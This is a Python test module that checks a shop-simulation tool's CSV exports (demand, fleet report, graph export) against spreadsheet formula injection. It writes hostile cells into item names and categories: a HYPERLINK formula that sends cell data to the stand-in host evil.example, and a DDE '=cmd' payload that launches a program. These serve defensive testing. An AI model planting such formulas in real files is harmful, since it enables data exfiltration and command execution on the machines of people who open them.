"""Cells of files that a spreadsheet would run as formulas."""

import csv
import io
import json

from .support import QUICK_TRAIN, Case, attack, event

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
NAMES = [FORMULA, "+1+cmd", "-2+3+cmd", "@SUM(1+1)", "=1+1"]
START = "=+-@\t\r\n\0"


def is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def live_cells(text):
    """The cells that a spreadsheet would take for formulas."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell[:1] and cell[0] in START and not is_number(cell)]


class Formulas(Case):
    def hostile_shop(self):
        """A shop in which items and categories are formulas, and are bought often."""
        self.shop()
        with open(self.folder / "formulas.jsonl", "w", encoding="utf-8") as out:
            number = 0
            for customer in range(1, 51):
                for day in range(1, 20):
                    name = NAMES[(customer + day) % len(NAMES)]
                    out.write(json.dumps(event(
                        f"f{number}", f"customer-{customer:04}", name, "purchase",
                        1_772_000_000 + 86_400 * day + 60 * customer)) + "\n")
                    number += 1
        with open(self.folder / "names.jsonl", "w", encoding="utf-8") as out:
            for name in NAMES:
                out.write(json.dumps({"item_id": name, "name": "=" + name, "brand": "@brand",
                                      "category": "=cmd|' /C calc'!A0"}) + "\n")
        self.succeed("ingest", "formulas.jsonl", "--items", "names.jsonl")
        self.succeed(*QUICK_TRAIN)
        self.succeed("simulate", "--all", "--paths", 20, "--horizon", 14, "-o", "fleet.jsonl",
                     "--demand", "demand.csv")

    def judge(self, *names):
        problems, found = [], 0
        for name in names:
            text = (self.folder / name).read_text("utf-8")
            found += sum(part in text for part in NAMES)
            cells = live_cells(text)
            if cells:
                problems.append(f"{name} has {len(cells)} live cells such as {cells[0]!r}")
        if not found:
            raise RuntimeError("no formula reached a file")
        self.saw(f"{found} formulas in {len(names)} files")
        self.harmless(problems)

    @attack("F11", "items and categories that are formulas: demand.csv")
    def test_demand(self):
        self.hostile_shop()
        self.judge("demand.csv")

    @attack("F11", "items and categories that are formulas: CSV of the fleet report")
    def test_fleet_report(self):
        self.hostile_shop()
        self.succeed("report", "--fleet", "fleet.jsonl", "--demand", "demand.csv", "-o",
                     "fleet.html", "--csv", "fleet.csv")
        self.judge("fleet.csv")

    @attack("F11", "items and categories that are formulas: graph export as CSV")
    def test_graphs(self):
        self.hostile_shop()
        self.succeed("graph", "export", "shop.csv")
        names = [path.relative_to(self.folder).as_posix()
                 for path in self.folder.rglob("*.csv")
                 if "shop" in path.name and "shop" != path.parent.name]
        self.judge(*names)

    @attack("F11", "a guarded demand.csv is read again as it was")
    def test_what_is_guarded_can_be_read(self):
        self.hostile_shop()
        page = self.run_program("report", "--fleet", "fleet.jsonl", "--demand", "demand.csv",
                                "-o", "fleet.html", "--json")
        self.saw(page)
        self.harmless(["expected the report to read the file" if page.code else "",
                       "expected the item under its own name"
                       if "'=HYPERLINK" in page.out or "=HYPERLINK" not in page.out else ""])
